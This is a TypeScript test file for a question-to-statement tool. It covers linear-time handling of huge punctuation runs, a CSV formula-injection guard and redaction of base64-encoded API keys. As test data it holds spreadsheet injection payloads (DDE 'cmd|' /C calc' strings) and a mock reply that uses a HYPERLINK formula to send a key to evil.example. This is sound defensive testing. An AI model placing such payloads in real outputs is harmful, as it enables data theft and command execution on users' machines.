/**
 * Part of the fault matrix (see faults.test.ts): text that attacks the tools reading it. Issue 22:
 * the built-in statement generator on megabyte runs of punctuation (linear time, the row flagged,
 * nothing but blank markers dropped), CSV cells a spreadsheet would run as formulas (the
 * `formulaGuard` option / --csv-formula-guard), and an API key echoed by an LLM in base64.
 *
 * Linear time is checked by work, not by the clock, where the work can be seen: the tagger
 * (wink-nlp) is wrapped to record every text it is handed, and must never see more than a bounded
 * amount per row nor a run without spaces longer than its bound. capqa's own regular expressions
 * cannot be counted, so each case also runs under two loose clocks. (1) The whole case (one run
 * of 1 MiB, then three of 64 KiB and three of 1 MiB) must finish within ROW_LIMIT_S = 60 s in a
 * worker thread (test/support/reformulate-probe.ts, terminated past the limit, so that a quadratic
 * case fails by name instead of hanging the suite for half an hour); a linear pass over 1 MiB takes
 * well under a second here, the quadratic ones took from 15 s to half an hour. (2) 1 MiB may take
 * at most 100 times as long as 64 KiB (best of five each, interleaved, 64 KiB counted as at least
 * 2 ms): a quadratic pass takes 256 times as long for 16 times the text, a linear one 1 to 30 times
 * as measured here (V8's global replace and its heap are cheaper per character while the strings
 * are small; from 1 MiB on the cost per character is flat, measured up to 16 MiB).
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { Worker } from "node:worker_threads";
import * as csv from "../lib/io/csv.js";
import { parseCsv, toCsv } from "../lib/io/csv.js";
import { Provider } from "../lib/construct/providers.js";
import { readRowTable, writeRowTable } from "../lib/io/row-table.js";
import { reformulate } from "../lib/statements/builtin.js";
import type { ProbeReply, ProbeRequest } from "./support/reformulate-probe.js";
import { runNode } from "./helpers.js";

const CLI = resolve("dist/cli/main.js");
const root = mkdtempSync(join(tmpdir(), "capqa-faults-text-"));
const MIB = 1 << 20;
/** Seconds a 1 MiB case may take in all (one run, then two timed runs at each size). */
const ROW_LIMIT_S = 60;

// ---------------------------------------------------------------- item 8: runs of punctuation

let worker: Worker | undefined;

/** One case in the probe worker; a case past ROW_LIMIT_S terminates the worker (a new one serves the next case). */
async function probe(p: ProbeRequest): Promise<ProbeReply> {
  worker ??= new Worker(new URL("./support/reformulate-probe.js", import.meta.url));
  const w = worker;
  w.unref();
  try {
    return await new Promise<ProbeReply>((done, fail) => {
      const timer = setTimeout(
        () => fail(new Error(`a ${p.size}-character ${p.role} of ${JSON.stringify(p.unit)} runs did not finish within ${ROW_LIMIT_S} s`)),
        ROW_LIMIT_S * 1000,
      );
      w.once("message", (m: ProbeReply) => (clearTimeout(timer), done(m)));
      w.once("error", (e) => (clearTimeout(timer), fail(e)));
      w.postMessage(p);
    });
  } catch (e) {
    worker = undefined;
    await w.terminate();
    throw e;
  }
}

/** Answers made of one unit repeated: the four shapes the issue names first, then others of the same families. */
const ANSWER_SHAPES: [string, string][] = [
  ["dashes", "-"],
  ["dots", "."],
  ["x-", "x-"],
  ["'s", "'s"],
  ["!?", "!?"],
  ["dots with spaces", "... "],
  ["unicode ellipsis", "…"],
  ["dotted digits", "1."],
  ["em dashes", "—"],
  ["double dashes with spaces", "-- "],
  ["emoji", "😀"],
  ["one long word", "a"],
  ["URL-like", "http://a.b/"],
  ["e-mail-like", "a@b."],
  ["mixed punctuation", "-.x'@!?/,;:"],
  ["abbreviations", "Mr. A "],
  ["initials", "A."],
  ["words without a verb", "big red "],
  ["question marks", "? "],
  ["underscores", "_"],
  ["brackets", "( ) "],
  ["numbered list", "1. a\n"],
  ["bullets", "- a\n"],
  ["white space", " \t\n "],
  ["possessives with spaces", "x's "],
  ["sentences", "It is blue. "],
  ["yes and a run", "Yes, -x-"],
];

/**
 * Shapes whose text finish() removes by design (blank markers: runs of 3+ dashes, 2+ underscores, empty brackets) or that are only white
 * space.
 */
const REMOVED = new Set(["dashes", "underscores", "brackets", "white space"]);
/** Shapes whose first sentence ends within the bound (or that are empty): the statement is made as before, with no doubt added. */
const NOT_FLAGGED = new Set(["white space", "sentences"]);

/** What every long case must show: a bounded tagger, a linear time, a well-formed statement on one line. */
function assertBounded(r: ProbeReply): void {
  assert.ok(r.tagger.chars <= 64_000, `the tagger read ${r.tagger.chars} characters for one row`);
  assert.ok(r.tagger.longestRun <= 200, `the tagger read a run of ${r.tagger.longestRun} characters without a space`);
  assert.ok(
    !/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(r.statement),
    "no lone surrogate: the statement is well-formed UTF-16",
  );
  assert.ok(!/[\n\r\t]/.test(r.statement), "one line");
  const ratio = r.bigSeconds / Math.max(r.smallSeconds, 2e-3);
  assert.ok(
    ratio < 100,
    `1 MiB took ${r.bigSeconds.toFixed(3)} s, 64 KiB ${r.smallSeconds.toFixed(3)} s: ${ratio.toFixed(1)} times as long for 16 times the text`,
  );
}

for (const [name, unit] of ANSWER_SHAPES) {
  test(`a 1 MiB answer of ${name} (${JSON.stringify(unit)} repeated): linear time, the tagger sees a bounded text, the row flagged, nothing dropped`, {
    timeout: 300_000,
  }, async () => {
    const r = await probe({ role: "answer", unit, size: MIB, smallSize: 64 * 1024 });
    assertBounded(r);
    if (NOT_FLAGGED.has(name)) assert.ok(!r.doubts.some((d) => d.startsWith("answer too long")), `doubts: ${r.doubts.join("; ")}`);
    else {
      assert.equal(r.flagged, true);
      assert.ok(
        r.doubts.some((d) => /^answer too long \(1048576 characters, the first \d+ analysed, the rest follows the statement\)$/.test(d)),
        `doubts: ${r.doubts.join("; ")}`,
      );
    }
    if (!REMOVED.has(name)) assert.ok(r.statement.length >= 0.5 * r.collapsedLength, `statement of ${r.statement.length} characters`);
    // The answer's last sentence, cut at 1 MiB ("… It is blue. It i"), ends the statement.
    if (name === "sentences")
      assert.ok(r.statement.endsWith(`${unit.repeat(Math.ceil(MIB / unit.length)).slice(MIB - 30, MIB)}.`), r.statement.slice(-40));
  });
}

/**
 * Questions: a long run, then " What is item N?". Whether the final sentence is the whole run (not
 * parsed: the colon form) depends on the shape: dashes make a blank (filled in place, no parse),
 * dots and sentences end before the final question (a long context, copied).
 */
const QUESTION_SHAPES: [string, string, boolean][] = [
  ["dashes", "-", false],
  ["dots", ".", false],
  ["x-", "x-", true],
  ["'s", "'s", true],
  ["words without a verb", "big red ", true],
  ["sentences ending in a question", "It is blue. ", false],
  ["abbreviations", "Mr. A ", true],
  ["URL-like", "http://a.b/", true],
];

for (const [name, unit, colon] of QUESTION_SHAPES) {
  test(`a 1 MiB question of ${name} (${JSON.stringify(unit)} repeated): linear time, the tagger sees a bounded text${colon ? ", the row flagged" : ""}`, {
    timeout: 300_000,
  }, async () => {
    const r = await probe({ role: "question", unit, size: MIB, smallSize: 64 * 1024 });
    assertBounded(r);
    if (colon) {
      assert.equal(r.flagged, true);
      assert.ok(
        r.doubts.some((d) => /^question too long to parse \(final sentence of \d+ characters, colon form\)$/.test(d)),
        `doubts: ${r.doubts.join("; ")}`,
      );
      assert.ok(r.statement.endsWith(": blue."), r.statement.slice(-40));
    } else assert.ok(!r.doubts.some((d) => d.includes("too long")), `doubts: ${r.doubts.join("; ")}`);
  });
}

test("capqa statements generate: four 1 MiB answers (-, ., x-, 's runs) finish, each row flagged and counted in the summary", {
  timeout: 300_000,
}, () => {
  const input = join(root, "runs.csv");
  const shapes = ["-", ".", "x-", "'s"];
  writeFileSync(
    input,
    toCsv(
      ["question", "answer"],
      shapes.map((u) => ({ question: "What is it?", answer: u.repeat(MIB / u.length) })),
    ),
  );
  const out = join(root, "runs-statements.csv");
  const r = spawnSync(process.execPath, [CLI, "statements", "generate", "--in", input, "--out", out, "--json", "--quiet"], {
    encoding: "utf8",
    timeout: 280_000,
    killSignal: "SIGKILL",
  });
  assert.equal(r.status, 0, r.stderr);
  const summary = JSON.parse(r.stdout) as { statements: { generated: number; flagged: number; doubts: Record<string, number> } };
  assert.equal(summary.statements.generated, 4);
  assert.equal(summary.statements.flagged, 4);
  assert.equal(summary.statements.doubts["answer too long"], 4);
  const t = parseCsv(readFileSync(out, "utf8"));
  const doubts = t.header.indexOf("statement_doubts");
  for (const rec of t.records) assert.match(rec.fields[doubts], /answer too long \(1048576 characters/);
});

test("ordinary answers are analysed whole: no bound reached, no doubt added", () => {
  const long = "Water evaporates from the sea. ".repeat(120); // 3,720 characters, many sentences
  const r = reformulate("What happens to water?", long);
  assert.ok(!r.doubts.some((d) => /too long/.test(d)), r.doubts.join("; "));
  assert.ok(r.statement.endsWith("Water evaporates from the sea."));
});

// ---------------------------------------------------------------- CSV formula injection (OWASP)

/** The guard as the library names it; absent before it existed. */
const guard = (csv as unknown as { guardFormula?: (text: string) => string }).guardFormula;
type GuardedToCsv = (columns: readonly string[], rows: readonly Record<string, unknown>[], options?: { formulaGuard?: boolean }) => string;

/**
 * Cells a spreadsheet runs as formulas (OWASP's CSV Injection: = + - @ tab CR first, also after leading white space or quotes; ASVS adds
 * NUL; full-width forms), and what the guard makes of them.
 */
const FORMULAS: [string, string][] = [
  ["=1+1", "'=1+1"],
  ['=HYPERLINK("http://evil.example/?q="&A1,"click")', `'=HYPERLINK("http://evil.example/?q="&A1,"click")`],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["-", "'-"],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ["\t=1+1", "'\t=1+1"],
  ["\tplain", "'\tplain"],
  ["\r=1+1", "'\r=1+1"],
  ["\u0000=1", "'\u0000=1"],
  ["   =1+1", "'   =1+1"],
  ['"=1+1"', `'"=1+1"`],
  ["'=1+1", "''=1+1"],
  ["\uff1d1+1", "'\uff1d1+1"],
  ["\uff0bcmd", "'\uff0bcmd"],
];
/** Cells left as they are: numbers (as text too), and text whose first character is harmless. */
const SAFE = ["-0.5", "+1", "-1e-3", " -3 ", "0.85", "12", "abc", "a=b", "a-b", "", "x @y", "1-2"];

test("CSV formula guard: every OWASP trigger gets a leading quote; numbers and harmless text are left exactly as they are", () => {
  assert.equal(typeof guard, "function", "lib/data/csv.ts has no guardFormula");
  for (const [cell, want] of FORMULAS) assert.equal(guard!(cell), want, JSON.stringify(cell));
  for (const cell of SAFE) assert.equal(guard!(cell), cell, JSON.stringify(cell));
});

test("toCsv: off by default (capqa's own files round-trip unchanged); with formulaGuard every formula cell is quoted and prefixed, numbers and decimal text unchanged, every text cell quoted", () => {
  const columns = ["answer", "score", "score_text", "note"];
  const rows = [
    ...FORMULAS.map(([cell]) => ({ answer: cell, score: -0.5, score_text: "-0.5", note: "a;=1+1" })),
    ...SAFE.map((cell) => ({ answer: cell, score: 1e-3, score_text: "+1", note: "plain" })),
  ];
  const plain = toCsv(columns, rows);
  const back = parseCsv(plain);
  // Default: the values come back exactly as they were written.
  back.records.forEach((r, i) => assert.deepEqual(r.fields, [rows[i].answer, String(rows[i].score), rows[i].score_text, rows[i].note]));
  assert.match(plain, /\n=1\+1,-0\.5,-0\.5,a;=1\+1\n/, "the default writes cells raw");
  const guarded = (toCsv as GuardedToCsv)(columns, rows, { formulaGuard: true });
  const read = parseCsv(guarded);
  read.records.forEach((r, i) => {
    const want = i < FORMULAS.length ? FORMULAS[i][1] : rows[i].answer;
    assert.equal(r.fields[0], want, `row ${i}`);
    assert.equal(r.fields[1], String(rows[i].score), "a number is never altered");
    assert.equal(r.fields[2], rows[i].score_text, "decimal text is never altered");
    assert.equal(r.fields[3], rows[i].note);
  });
  // Wrapped in quotes (OWASP): a spreadsheet splitting at ";" keeps "a;=1+1" one text cell.
  assert.match(guarded, /,-0\.5,"-0\.5","a;=1\+1"\n/);
  assert.ok(!/(^|,|\n)[=+@\-\t\r]/.test(guarded.replace(/(^|,|\n)-?\d[\d.e+-]*(?=,|\n)/g, "$1")), "no unquoted cell starts with a trigger");
});

test("writeRowTable (every CSV output of the CLI): the formulaGuard option, and $CAPQA_CSV_FORMULA_GUARD=1 as the default; a bad value is refused naming the variable", () => {
  const dir = join(root, "guard-files");
  mkdirSync(dir, { recursive: true });
  const rows = [{ question: "=1+1", answer: "@x", cap: -0.25 }];
  const write = writeRowTable as (
    file: string,
    columns: readonly string[],
    rows: readonly Record<string, unknown>[],
    options?: { formulaGuard?: boolean },
  ) => void;
  write(join(dir, "opt.csv"), ["question", "answer", "cap"], rows, { formulaGuard: true });
  assert.deepEqual(readRowTable(join(dir, "opt.csv")).rows[0], { question: "'=1+1", answer: "'@x", cap: "-0.25" });
  write(join(dir, "off.csv"), ["question", "answer", "cap"], rows);
  assert.deepEqual(readRowTable(join(dir, "off.csv")).rows[0], { question: "=1+1", answer: "@x", cap: "-0.25" });
  const saved = process.env.CAPQA_CSV_FORMULA_GUARD;
  try {
    process.env.CAPQA_CSV_FORMULA_GUARD = "1";
    write(join(dir, "env.csv"), ["question", "answer", "cap"], rows);
    assert.deepEqual(readRowTable(join(dir, "env.csv")).rows[0], { question: "'=1+1", answer: "'@x", cap: "-0.25" });
    write(join(dir, "env-off.csv"), ["question", "answer", "cap"], rows, { formulaGuard: false });
    assert.deepEqual(readRowTable(join(dir, "env-off.csv")).rows[0], { question: "=1+1", answer: "@x", cap: "-0.25" });
    process.env.CAPQA_CSV_FORMULA_GUARD = "maybe";
    assert.throws(() => write(join(dir, "bad.csv"), ["question"], rows), /CAPQA_CSV_FORMULA_GUARD/);
  } finally {
    if (saved === undefined) delete process.env.CAPQA_CSV_FORMULA_GUARD;
    else process.env.CAPQA_CSV_FORMULA_GUARD = saved;
  }
});

test("capqa --csv-formula-guard: the statements written from formula-like questions and answers are guarded; without the flag they are written as before", () => {
  const dir = join(root, "guard-cli");
  mkdirSync(dir, { recursive: true });
  const input = join(dir, "in.csv");
  writeFileSync(
    input,
    toCsv(
      ["question", "answer"],
      [
        { question: "What is =1+1?", answer: '=HYPERLINK("http://evil.example","x")' },
        { question: "-What is it?", answer: "-0.5" },
      ],
    ),
  );
  const go = (extra: string[], out: string) =>
    spawnSync(process.execPath, [CLI, "statements", "generate", "--in", input, "--out", out, "--quiet", ...extra], { encoding: "utf8" });
  const on = go(["--csv-formula-guard"], join(dir, "on.csv"));
  assert.equal(on.status, 0, on.stderr);
  const rows = readRowTable(join(dir, "on.csv")).rows;
  assert.equal(rows[0].answer, `'=HYPERLINK("http://evil.example","x")`);
  assert.equal(rows[1].question, "'-What is it?");
  assert.equal(rows[1].answer, "-0.5", "a number is not altered");
  const off = go([], join(dir, "off.csv"));
  assert.equal(off.status, 0, off.stderr);
  assert.equal(readRowTable(join(dir, "off.csv")).rows[0].answer, '=HYPERLINK("http://evil.example","x")');
  assert.match(spawnSync(process.execPath, [CLI, "help"], { encoding: "utf8" }).stdout, /--csv-formula-guard/);
});

// ---------------------------------------------------------------- an API key echoed in base64

const KEY = "sk-ant-api03-B64leakTEST-Zq81vN4mP7xR2wL9yT";
const OTHER = "sk-proj-OTHERkey-5551234abcdXYZ";

/**
 * The key's base64 as it sits inside any encoded text: the characters that depend on the key's bytes only, for each of the 3 byte
 * alignments, standard and URL-safe.
 */
function base64Cores(secret: string): string[] {
  const bytes = Buffer.from(secret);
  const out = new Set<string>();
  for (const a of [0, 1, 2]) {
    const enc = Buffer.concat([Buffer.alloc(a), bytes, Buffer.alloc(3)]).toString("base64");
    const core = enc.slice(Math.ceil((8 * a) / 6), Math.floor((8 * (a + bytes.length)) / 6));
    out.add(core);
    out.add(core.replace(/\+/g, "-").replace(/\//g, "_"));
  }
  return [...out];
}

/**
 * Texts holding the key base64-encoded the ways a reply can: padded or not, URL-safe, inside a larger encoded header at every alignment,
 * wrapped at 76 (MIME, CRLF) and 64 (PEM) characters, indented.
 */
function encodedEchoes(secret: string): string[] {
  const b64 = (s: string) => Buffer.from(s).toString("base64");
  const url = (s: string) => b64(s).replace(/\+/g, "-").replace(/\//g, "_");
  const wrap = (s: string, n: number, sep: string) => s.match(new RegExp(`.{1,${n}}`, "g"))!.join(sep);
  const long = b64(`Authorization: Bearer ${secret}\nX-Other: ${secret}x`).repeat(2);
  return [
    b64(secret),
    b64(secret).replace(/=+$/, ""),
    url(secret),
    url(secret).replace(/=+$/, ""),
    b64(`user:${secret}`),
    b64(`Bearer ${secret}`),
    b64(`x-api-key: ${secret}`),
    url(`{"key":"${secret}"}`),
    wrap(long, 76, "\r\n"),
    wrap(long, 64, "\n"),
    wrap(b64(secret), 20, "\n    "),
  ];
}

/**
 * Whether `text` still holds the key, a 16-character run of one of its base64 cores (white space and \n escapes ignored), or 12 characters
 * of the plain key.
 */
function leaks(text: string, secret: string): string | undefined {
  const compact = text.replace(/\\[rnt]|\s/g, "");
  if (text.includes(secret.slice(4, 16))) return "the plain key";
  for (const core of base64Cores(secret))
    for (let i = 0; i + 16 <= core.length; i += 4) if (compact.includes(core.slice(i, i + 16))) return `base64 ${core.slice(i, i + 16)}`;
  return undefined;
}

test("Provider.redact: the key's base64 (standard, URL-safe, padded or not, at every alignment inside a larger encoding, wrapped at 76 or 64 characters) is redacted; other base64 and plain text are not touched", () => {
  const p = new Provider({ provider: "anthropic", model: "m", apiKey: KEY, env: { OPENAI_API_KEY: OTHER } });
  for (const secret of [KEY, OTHER])
    for (const [k, echo] of encodedEchoes(secret).entries()) {
      const text = `Sure. The value is ${echo} as requested.`;
      const got = p.redact(text);
      assert.equal(leaks(got, secret), undefined, `form ${k} of ${secret.slice(0, 8)}…: ${JSON.stringify(got)}`);
      assert.ok(got.includes("[REDACTED]"), `form ${k}: ${got}`);
      assert.ok(got.startsWith("Sure. The value is ") && got.endsWith(" as requested."), got);
    }
  const innocent = [
    `The answer is 42. ${Buffer.from("an ordinary sentence, encoded").toString("base64")}`,
    "c2stYW50 is not a key",
    "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=",
  ];
  for (const t of innocent) assert.equal(p.redact(t), t);
});

/**
 * An OpenAI-compatible server on 127.0.0.1 whose replies start with a formula and echo the key base64-encoded in the text, the model and
 * the finish reason.
 */
async function echoingServer() {
  const server = createServer(async (req: IncomingMessage, res: ServerResponse) => {
    for await (const _ of req);
    const given = String(req.headers.authorization ?? "").replace(/^Bearer /, "");
    const b64 = Buffer.from(given).toString("base64");
    const content = `=HYPERLINK("http://evil.example/?k=${b64}","answer") key ${encodedEchoes(given)[8]} and ${Buffer.from(`Bearer ${given}`).toString("base64url")}`;
    const payload = {
      id: "c",
      object: "chat.completion",
      model: `gpt-x-${b64}`,
      choices: [{ index: 0, message: { role: "assistant", content }, finish_reason: `stop ${b64}` }],
      usage: { prompt_tokens: 5, completion_tokens: 5 },
    };
    res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(payload));
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, close: () => new Promise<void>((r) => server.close(() => r())) };
}

function walk(d: string): string[] {
  return readdirSync(d).flatMap((f) => (statSync(join(d, f)).isDirectory() ? walk(join(d, f)) : [join(d, f)]));
}

test("capqa construct answers with a reply echoing the key in base64 and starting with a formula: no form of the key in the answers file, the checkpoint or the cache; with --csv-formula-guard the answer cell is guarded", async () => {
  const s = await echoingServer();
  try {
    const dir = join(root, "b64-echo");
    mkdirSync(dir, { recursive: true });
    writeFileSync(
      join(dir, "in.csv"),
      toCsv(
        ["question", "gold_answer"],
        [
          { question: "What is water?", gold_answer: "H2O" },
          { question: "What is ice?", gold_answer: "frozen water" },
        ],
      ),
    );
    writeFileSync(join(dir, "fast.json"), JSON.stringify({ backoffBaseMs: 5, backoffMaxMs: 20, requestsPerMinute: 0 }));
    const out = join(dir, "answers", "out.csv");
    const r = await runNode(
      CLI,
      [
        "--csv-formula-guard",
        "construct",
        "answers",
        "--provider",
        "openai",
        "--model",
        "gpt-x",
        "--in",
        join(dir, "in.csv"),
        "--out",
        out,
        "--cache-dir",
        join(dir, "cache"),
        "--config",
        join(dir, "fast.json"),
        "--quiet",
      ],
      {
        OPENAI_API_KEY: KEY,
        OPENAI_BASE_URL: `${s.url}/v1`,
        ANTHROPIC_API_KEY: OTHER,
        CAPQA_CACHE_DIR: join(dir, "default-cache"),
      },
    );
    assert.equal(r.code, 0, r.stderr);
    const rows = readRowTable(out).rows;
    assert.equal(rows.length, 2);
    for (const row of rows) {
      assert.match(String(row.answer), /^'=HYPERLINK\("http:\/\/evil\.example\/\?k=\[REDACTED\]/, String(row.answer));
      assert.match(String(row.model), /gpt-x/);
    }
    const files = walk(dir).filter((f) => !f.endsWith("in.csv") && !f.endsWith("fast.json"));
    for (const want of ["out.csv", ".checkpoint.jsonl", ".report.json", ".json"])
      assert.ok(
        files.some((f) => f.endsWith(want)),
        `${want} among ${files.join(", ")}`,
      );
    assert.ok(
      files.some((f) => f.includes(join(dir, "cache"))),
      "the cache was written",
    );
    for (const f of files) assert.equal(leaks(readFileSync(f, "utf8"), KEY), undefined, f);
    for (const p of [r.stdout, r.stderr]) assert.equal(leaks(p, KEY), undefined);
  } finally {
    await s.close();
  }
});
